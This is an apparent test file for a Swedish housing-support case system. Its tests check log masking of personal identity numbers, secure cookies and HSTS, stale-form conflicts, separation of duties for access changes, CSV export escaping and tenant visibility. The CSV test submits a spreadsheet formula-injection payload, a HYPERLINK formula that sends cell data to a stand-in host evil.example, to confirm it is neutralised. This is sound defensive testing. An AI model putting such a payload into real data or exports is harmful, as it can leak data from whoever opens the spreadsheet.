// security.test.mjs - the smaller findings of the attack review, each as a
// test that failed before its fix: the access log masks a personnummer in
// any form; behind TLS the cookies carry the __Host- prefix and answers HSTS;
// stale settings and standard-text forms answer 409 and change nothing; an
// account change that gives case access is listed for the managers until
// one acknowledges it (separation of duties).
import assert from 'node:assert/strict';
import { test, run } from '../lib/t.mjs';
import { startServer, Client, sql } from '../lib/server.mjs';

const srv = await startServer();
const q = (s) => sql(srv.db, s);
const admin = new Client(srv.url);
await admin.login('admin1');
const chef = new Client(srv.url);
await chef.login('chef1');

test('the access log masks a personnummer in every form', async () => {
  for (const p of ['/persons/600301-1001', '/persons/198503122387', '/persons/19850312-2387', '/persons/8503122387',
    '/persons/850312+2387', '/persons/600301%201001', '/persons/600301.1001', '/persons/600301_1001']) await chef.get(p);
  await new Promise((r) => setTimeout(r, 200));
  const lines = srv.log().split('\n').filter((l) => / GET \/persons\/\S+ /.test(l));
  assert.ok(lines.length >= 8, lines.join('\n'));
  for (const l of lines) {
    assert.doesNotMatch(l, /GET \/persons\/[^ ]*\d{4}/, `a personnummer in the log: ${l}`);
  }
  assert.ok(lines.some((l) => l.includes('GET /persons/[nr] ')));
});

test('behind TLS: __Host- cookies, Secure, and HSTS on every answer', async () => {
  const tls = await startServer({ args: ['--secure-cookies'] });
  try {
    const c = new Client(tls.url);
    const page = await c.request('GET', '/login');
    assert.match(page.headers['strict-transport-security'] || '', /max-age=63072000/);
    const pre = page.headers['set-cookie'].join('\n');
    assert.match(pre, /^__Host-bf_pre=[0-9a-f]{64}; Path=\/; HttpOnly; SameSite=Lax; Secure/m);
    const r = await c.login('chef1');
    assert.equal(r.status, 303);
    assert.match(r.headers['set-cookie'].join('\n'), /^__Host-bf_session=[^;]+; Path=\/; HttpOnly; SameSite=Lax; Secure/m);
    assert.equal((await c.get('/')).status, 200, 'the prefixed cookie is the session');
    const plain = new Client(tls.url);
    plain.cookies.set('bf_session', [...c.cookies].find(([k]) => k === '__Host-bf_session')[1]);
    assert.notEqual((await plain.get('/')).status, 200, 'a cookie without the prefix is not read behind TLS');
    const err = await c.get('/nowhere');
    assert.equal(err.status, 404);
    assert.match(err.headers['strict-transport-security'] || '', /max-age/, 'error pages too');
  } finally {
    await tls.stop();
  }
});

test('a stale settings form answers 409 and changes nothing', async () => {
  const form = (await admin.get('/admin/settings', { json: true })).json();
  assert.equal(form.was, '9');
  let r = await admin.post('/admin/settings', { takeover_months: '10', was: '9' });
  assert.equal(r.status, 303);
  r = await admin.post('/admin/settings', { takeover_months: '12', was: '9' });	// opened before the first save
  assert.equal(r.status, 409);
  assert.match(r.body, /Någon annan har ändrat inställningen sedan du öppnade sidan: nu sparat är 10 månader/);
  assert.match(r.body, /value="12"/, 'what was typed is kept');
  assert.equal(q("SELECT value FROM settings WHERE name = 'takeover_months'")[0].value, '10');
  r = await admin.post('/admin/settings', { takeover_months: '12' });
  assert.equal(r.status, 409, 'a form without the value it was opened with is stale too');
});

test('a stale standard text answers 409 with both texts; nothing saved', async () => {
  const form = (await admin.get('/admin/assignment-text', { json: true })).json();
  const base = String(form.form.id);
  let r = await admin.post('/admin/assignment-text', { text: 'Version A', base_id: base });
  assert.equal(r.status, 303);
  const n = q('SELECT count(*) AS n FROM assignment_texts')[0].n;
  r = await admin.post('/admin/assignment-text', { text: 'Version B', base_id: base });
  assert.equal(r.status, 409);
  // the one conflict shape: what is saved now beside what was typed
  assert.match(r.body, /Sparat av någon annan[\s\S]*<dt>Standardtext<\/dt><dd>Version A<\/dd>/);
  assert.match(r.body, />Version B<\/textarea>/);
  assert.equal(q('SELECT count(*) AS n FROM assignment_texts')[0].n, n);
});

test('separation of duties: accounts that give case access are listed for the managers until acknowledged', async () => {
  const made = await admin.post('/admin/users', { username: 'ny.chef', name: 'Ny Chef', role: 'manager',
    password: 'ett långt lösenord', password_again: 'ett långt lösenord' });
  assert.equal(made.status, 303, made.body.slice(0, 300));
  const landlord = await admin.post('/admin/users', { username: 'ny.fast', name: 'Ny Fast', role: 'landlord',
    password: 'ett långt lösenord', password_again: 'ett långt lösenord' });
  assert.equal(landlord.status, 303);
  const cm1 = q("SELECT id FROM users WHERE username = 'cm1'")[0].id;
  const reset = await admin.post(`/admin/users/${cm1}/password`, { password: 'ett annat långt lösenord', password_again: 'ett annat långt lösenord' });
  assert.equal(reset.status, 303);
  // the account an administrator just made cannot clear the list, itself included
  const evil = new Client(srv.url);
  assert.equal((await evil.login('ny.chef', 'ett långt lösenord')).status, 303);
  const seen = (await evil.get('/', { json: true })).json().access_changes || [];
  const own = seen.find((x) => /ny\.chef/.test(x.text));
  assert.ok(own && own.own && !own.action_href, 'its own creation: no acknowledge button');
  const mine = q("SELECT id FROM audit WHERE entity = 'user' AND action = 'create' AND entity_id = (SELECT id FROM users WHERE username = 'ny.chef')")[0].id;
  assert.equal((await evil.post(`/access-changes/${mine}/ack`, {})).status, 403, 'not its own');
  const other = seen.find((x) => x.action_href);
  assert.equal((await evil.post(other.action_href, {})).status, 403, 'nor anything while its own is unacknowledged');
  assert.equal(q('SELECT count(*) AS n FROM access_change_acks')[0].n, 0);
  // an administrator cannot give themselves another role
  const adminId = q("SELECT id, version FROM users WHERE username = 'admin1'")[0];
  const self = await admin.post(`/admin/users/${adminId.id}`, { name: 'Adam', role: 'manager', active: '1', version: String(adminId.version) });
  assert.equal(self.status, 400);
  assert.match(self.body, /Du kan inte ändra rollen på ditt eget konto/);
  assert.equal(q("SELECT role FROM users WHERE username = 'admin1'")[0].role, 'admin');
  let home = (await chef.get('/', { json: true })).json();
  const texts = (home.access_changes || []).map((x) => x.text);
  assert.ok(texts.some((t) => /skapade kontot ny\.chef \(Chef\)/i.test(t)), texts.join('\n'));
  assert.ok(texts.some((t) => /återställde lösenordet för cm1/.test(t)), texts.join('\n'));
  assert.ok(!texts.some((t) => /ny\.fast/.test(t)), 'a landlord account gives no case access');
  const html = (await chef.get('/')).body;
  assert.match(html, /<h2 id="access-heading">Ändrade behörigheter att granska<\/h2>/);
  for (const x of home.access_changes) {
    const ack = await chef.post(x.action_href, {});
    assert.equal(ack.status, 303);
  }
  home = (await chef.get('/', { json: true })).json();
  assert.equal(home.access_changes, undefined, 'all acknowledged');
  assert.ok(q("SELECT count(*) AS n FROM audit WHERE entity = 'access_change_ack'")[0].n >= 2);
  assert.equal((await chef.post('/access-changes/999999/ack', {})).status, 404);
  assert.equal((await admin.post(`/access-changes/${q('SELECT max(audit_id) AS m FROM access_change_acks')[0].m}/ack`, {})).status, 403,
    'the admin cannot acknowledge their own changes');
  const upd = q('SELECT count(*) AS n FROM access_change_acks')[0].n;
  assert.throws(() => q('DELETE FROM access_change_acks'), /append-only/);
  assert.equal(q('SELECT count(*) AS n FROM access_change_acks')[0].n, upd);
});

test('CSV exports never hand a spreadsheet a formula; the import reads the cell back as written', async () => {
  const soc = new Client(srv.url);
  await soc.login('soc1');
  const made = await soc.post('/persons', { reserve: '1', sex: 'K', birth_date: '1980-05-05', first_name: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', last_name: '+1+1' });
  assert.equal(made.status, 303);
  const id = made.headers.location.match(/\/persons\/(\d+)/)[1];
  await chef.get(`/persons/${id}`);
  const csv = (await chef.get(`/audit?person=${id}&format=csv`)).body;
  for (const line of csv.split('\r\n').slice(1).filter(Boolean))
    for (const cell of line.match(/("([^"]|"")*"|[^;]*)(;|$)/g).map((x) => x.replace(/;$/, '').replace(/^"|"$/g, '')))
      assert.ok(!/^[=+\-@]/.test(cell), `a formula cell: ${cell}`);
  assert.match(csv, /'=HYPERLINK/);
  // the statusrapport: an imported note "=1+2" is exported as text and imported back as written
  const d = q("INSERT INTO districts(name, created_at, updated_at) VALUES('Formelby', 0, 0) RETURNING id")[0].id;
  const file = 'Avseende år: 2024;;;;;;;;;;;;;\r\nPersonkod;inflytt;första gången?;bor kvar;utflyttad;anledning;avliden;fortsatt insats soc;om ej insats;kontakt m team;utflyttad;anledning;avliden;annan info\r\n' +
    'Formel-40-K;2024-01-01;ja;ja;;;;;;;;;;=1+2\r\n';
  const { writeFileSync } = await import('node:fs');
  writeFileSync(`${srv.dir}/formel.csv`, file);
  const { runBin } = await import('../lib/server.mjs');
  assert.equal(runBin(['import-status', '--db', srv.db, '--district', 'Formelby', '--file', `${srv.dir}/formel.csv`]).code, 0);
  const out = (await chef.get(`/reports/status?year=2024&district=${d}&format=csv`)).body;
  assert.match(out, /\r\nFormel-40-K;2024-01-01;ja;ja;;;;;;;;;;'=1\+2\r\n/);
  writeFileSync(`${srv.dir}/formel-back.csv`, out);
  const again = runBin(['import-status', '--db', srv.db, '--district', 'Formelby', '--file', `${srv.dir}/formel-back.csv`]);
  assert.match(again.stdout, /0 uppdaterade, 1 oförändrad /, `read back as written: ${again.stdout} ${again.stderr}`);
});

test('tenants outside the viewer\'s scope are not named on the apartment pages', async () => {
  const soc2 = new Client(srv.url);
  await soc2.login('soc2');
  const centrumTenant = q("SELECT a.id AS apt, p.first_name || ' ' || p.last_name AS name FROM tenancies t JOIN apartments a ON a.id = t.apartment_id JOIN persons p ON p.id = t.person_id JOIN districts d ON d.id = p.district_id WHERE t.end_date IS NULL AND d.name = 'Centrum' LIMIT 1")[0];
  const list = (await soc2.get('/apartments?status=let', { json: true })).json();
  assert.ok(!JSON.stringify(list).includes(centrumTenant.name), 'soc2 (Hisingen) does not see a Centrum tenant');
  assert.ok(!(await soc2.get(`/apartments/${centrumTenant.apt}`)).body.includes(centrumTenant.name));
  const fast = new Client(srv.url);
  await fast.login('fast1');
  assert.ok((await fast.get(`/apartments/${centrumTenant.apt}`)).body.includes(centrumTenant.name), 'the landlord office sees its tenants');
});

await run({ after: () => srv.stop() });
